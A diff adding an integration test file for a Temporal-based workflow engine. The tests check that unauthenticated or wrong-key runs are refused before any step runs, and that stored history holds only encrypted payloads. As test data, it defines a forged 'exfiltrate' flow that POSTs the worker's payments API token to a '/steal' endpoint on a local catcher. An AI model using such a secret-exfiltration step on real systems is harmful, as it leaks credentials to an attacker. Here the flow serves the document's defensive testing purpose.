@@ -1,0 +1,96 @@
+// Payloads in Temporal are encrypted (lib/payload-codec.ts), and the worker runs only runs whose
+// input an operator key wrote: anyone who reaches Temporal's port can start a `runFlow`, and a
+// forged one must fail before any step, having called nothing (worker/payload-guard.ts,
+// workflows/payload-guard.ts). On the real stack: Temporal dev server, worker, ingress, FerretDB,
+// SMTP, a loopback catcher for the forged run's http.request.
+import { after, before, test } from 'node:test';
+import assert from 'node:assert/strict';
+import { Client, WorkflowFailedError } from '@temporalio/client';
+import { ApplicationFailure } from '@temporalio/common';
+import { temporal } from '@temporalio/proto';
+import { FLOW_WORKFLOW_TYPE, type FlowRunInput } from '../../engine/contract';
+import type { FlowDefinition } from '../../engine/types';
+import { UNAUTHENTICATED_FAILURE } from '../../engine/unauthenticated';
+import { EncryptionCodec, generatePayloadKeys, parsePayloadKeys } from '../../lib/payload-codec';
+import { startTestStack, TEST_TASK_QUEUE, type TestStack } from '../helpers/stack';
+import { paymentSucceeded, postEvent, uid } from '../helpers/events';
+import { startFakeApi, type FakeApi } from '../helpers/fake-api';
+
+let stack: TestStack;
+let catcher: FakeApi;
+/** A client as an attacker who reaches Temporal has one: no codec, no key. */
+let keyless: Client;
+before(async () => {
+  catcher = await startFakeApi();
+  stack = await startTestStack();
+  keyless = new Client({ connection: stack.client.connection, namespace: 'default' });
+});
+after(async () => {
+  await stack?.stop();
+  await catcher?.close();
+});
+
+/** What an attacker would run: the worker's secrets to their own server. */
+const exfiltrate = (): FlowDefinition => ({
+  name: 'forged', version: 'x', trigger: { source: 'payments', events: ['x'] },
+  steps: [{ id: 'steal', uses: 'http.request', with: { method: 'POST', url: `${catcher.url}/steal`, body: { token: { secret: 'PAYMENTS_API_TOKEN' } } } }],
+});
+const input = (): FlowRunInput => ({ flow: exfiltrate(), event: { id: uid('evt'), type: 'x', source: 'payments', receivedAt: new Date().toISOString(), body: {} } });
+const stolen = () => catcher.requests.filter((r) => r.path === '/steal').length;
+
+async function refusal(client: Client): Promise<{ failure: ApplicationFailure; eventTypes: string[] }> {
+  const handle = await client.workflow.start(FLOW_WORKFLOW_TYPE, { taskQueue: TEST_TASK_QUEUE, workflowId: uid('forged'), args: [input()] });
+  const err = await handle.result().then(() => undefined, (e: unknown) => e);
+  assert.ok(err instanceof WorkflowFailedError, `the forged run must fail, got ${String(err)}`);
+  assert.ok(err.cause instanceof ApplicationFailure);
+  const history = await handle.fetchHistory();
+  const eventTypes = (history.events ?? []).map((e) => temporal.api.enums.v1.EventType[e.eventType ?? 0]);
+  return { failure: err.cause, eventTypes };
+}
+
+test('a runFlow started directly on Temporal, without a key, fails at once, non-retryable, and calls nothing', async () => {
+  const before = stolen();
+  const { failure, eventTypes } = await refusal(keyless);
+  assert.equal(failure.type, UNAUTHENTICATED_FAILURE);
+  assert.equal(failure.nonRetryable, true);
+  assert.match(failure.message, /run refused, its input is not from hookflow's ingress: payload not encrypted with an operator key/);
+  // One workflow task, then the failure: no activity, no local activity marker, no timer.
+  assert.deepEqual(eventTypes, ['EVENT_TYPE_WORKFLOW_EXECUTION_STARTED', 'EVENT_TYPE_WORKFLOW_TASK_SCHEDULED', 'EVENT_TYPE_WORKFLOW_TASK_STARTED', 'EVENT_TYPE_WORKFLOW_TASK_COMPLETED', 'EVENT_TYPE_WORKFLOW_EXECUTION_FAILED']);
+  assert.equal(stolen(), before, 'the catcher received nothing');
+
+  // The same flow with a key does call the catcher: the refusal above is the guard's, not the flow's.
+  const handle = await stack.client.workflow.start(FLOW_WORKFLOW_TYPE, { taskQueue: TEST_TASK_QUEUE, workflowId: uid('keyed'), args: [input()] });
+  await handle.result();
+  assert.equal(stolen(), before + 1);
+});
+
+test('a run encrypted with a key the worker does not hold is refused the same way', async () => {
+  const before = stolen();
+  const wrongKey = new Client({ connection: stack.client.connection, namespace: 'default', dataConverter: { payloadCodecs: [new EncryptionCodec(parsePayloadKeys(generatePayloadKeys('test')))] } });
+  const { failure, eventTypes } = await refusal(wrongKey);
+  assert.equal(failure.type, UNAUTHENTICATED_FAILURE);
+  assert.match(failure.message, /failed authentication with key "test"/);
+  assert.ok(!eventTypes.includes('EVENT_TYPE_ACTIVITY_TASK_SCHEDULED') && !eventTypes.includes('EVENT_TYPE_MARKER_RECORDED'));
+  assert.equal(stolen(), before);
+});
+
+test('a real event runs end to end, and Temporal holds only ciphertext: no customer email in the history a keyless client fetches', async () => {
+  const email = `${uid('ada')}@example.com`;
+  const orderId = uid('ord');
+  await stack.db.collection<{ _id: string; status: string }>('orders').insertOne({ _id: orderId, status: 'pending' });
+  const ev = paymentSucceeded({ orderId, email, items: [] });
+  const res = await postEvent(stack.ingressUrl, ev);
+  assert.equal(res.status, 202, JSON.stringify(res.body));
+  const workflowId: string = res.body.runs[0].workflowId;
+  await stack.client.workflow.getHandle(workflowId).result();
+  assert.equal((await stack.db.collection<{ _id: string; status: string }>('orders').findOne({ _id: orderId }))?.status, 'paid');
+  await stack.smtp.waitFor((m) => m.to.includes(email));
+
+  const history = await keyless.workflow.getHandle(workflowId).fetchHistory();
+  const bytes = Buffer.from(temporal.api.history.v1.History.encode(history).finish());
+  assert.ok(!bytes.includes(email), 'the email appears nowhere in the stored history');
+  // …while the same payloads, decoded with the key, hold it: the check above looked at the right bytes.
+  const started = history.events![0]!.workflowExecutionStartedEventAttributes!.input!.payloads!;
+  const decoded = await stack.codec!.decode(started);
+  assert.ok(Buffer.from(decoded[0]!.data!).includes(email));
+});
